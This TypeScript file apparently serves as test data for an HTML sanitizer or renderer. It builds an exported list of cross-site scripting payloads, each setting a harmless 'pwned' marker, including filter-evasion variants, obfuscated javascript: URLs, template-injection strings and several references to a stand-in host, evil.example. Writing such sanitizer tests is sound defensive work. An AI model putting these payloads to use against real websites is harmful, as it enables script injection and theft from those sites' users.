/** Texts that run something where they are taken for markup, an address, a style or code. Each sets `pwned`. */
const RUN = 'window.pwned=1';

/** Elements that run what an attribute says, by what sets them off. */
const EVENTS = [
  ['img', 'src=x', 'onerror'],
  ['img', 'srcset=x', 'onerror'],
  ['svg', '', 'onload'],
  ['body', '', 'onload'],
  ['body', '', 'onpageshow'],
  ['iframe', 'src=about:blank', 'onload'],
  ['input', 'autofocus', 'onfocus'],
  ['select', 'autofocus', 'onfocus'],
  ['textarea', 'autofocus', 'onfocus'],
  ['video', 'src=x', 'onerror'],
  ['audio', 'src=x', 'onerror'],
  ['video', 'src=x autoplay', 'onloadstart'],
  ['details', 'open', 'ontoggle'],
  ['marquee', '', 'onstart'],
  ['object', 'data=x', 'onerror'],
  ['embed', 'src=x', 'onerror'],
  ['link', 'rel=stylesheet href=x', 'onerror'],
  ['script', 'src=x', 'onerror'],
  ['style', '', 'onload'],
  ['div', 'style="animation:breathe 1s"', 'onanimationstart'],
  ['div', 'tabindex=0 autofocus', 'onfocus'],
  ['dialog', 'open', 'onclose'],
  ['image', 'src=x', 'onerror'],
  ['track', 'src=x default', 'onerror'],
] as const;

/** Ways to get out of where a text may have been put, and ways to write it that filters miss. */
const WRAPPED: readonly ((tag: string) => string)[] = [
  (tag) => tag,
  (tag) => `">${tag}`,
  (tag) => `'>${tag}`,
  (tag) => `</textarea></title></style></script>${tag}`,
  (tag) => `--> ${tag}`,
  (tag) => tag.replace(/^<(\w+)/, (_, name: string) => `<${name.toUpperCase()}/`),
];

const handlers = EVENTS.flatMap(([name, attributes, event]) =>
  WRAPPED.map((wrap) => wrap(`<${name} ${attributes} ${event}="${RUN}"></${name}>`)),
);

const addresses = [
  'javascript:',
  'JaVaScRiPt:',
  ' javascript:',
  'java\tscript:',
  'java\nscript:',
  '\u0001javascript:',
].flatMap((scheme) => [
  `${scheme}${RUN}`,
  `<a href="${scheme}${RUN}">x</a>`,
  `<iframe src="${scheme}${RUN}"></iframe>`,
  `<form action="${scheme}${RUN}"><button autofocus>x</button></form>`,
  `[x](${scheme}${RUN})`,
]);

const others = [
  `<script>${RUN}</script>`,
  `<ScRiPt>${RUN}</sCrIpT>`,
  `<script type=module>${RUN}</script>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin="${RUN}" attributeName=x dur=1s>`,
  `<svg><set onbegin="${RUN}" attributeName=x>`,
  `<svg><use href="data:image/svg+xml,<svg onload=${RUN}>#x"></use></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}>`,
  `<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>`,
  `<object data="data:text/html,<script>parent.pwned=1</script>"></object>`,
  `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
  `<base href="http://evil.example/">`,
  `<link rel=stylesheet href="http://evil.example/a.css">`,
  `<style>@import 'http://evil.example/a.css';</style>`,
  `<img src="http://evil.example/pixel">`,
  `data:text/html,<script>${RUN}</script>`,
  `'-${RUN}-'`,
  `";${RUN};//`,
  `\`;${RUN};//`,
  `\${${RUN}}`,
  `{{constructor.constructor('${RUN}')()}}`,
  `\\u003cimg src=x onerror=${RUN}\\u003e`,
  `&lt;img src=x onerror=${RUN}&gt;`,
  `%3Cscript%3E${RUN}%3C/script%3E`,
  `\u2028${RUN}\u2029`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `{"__html":"<img src=x onerror=${RUN}>"}`,
  `__proto__`,
  `expression(${RUN})`,
  `url(javascript:${RUN})`,
  `<template><script>${RUN}</script></template>`,
];

export const PAYLOADS: readonly string[] = [...handlers, ...addresses, ...others];
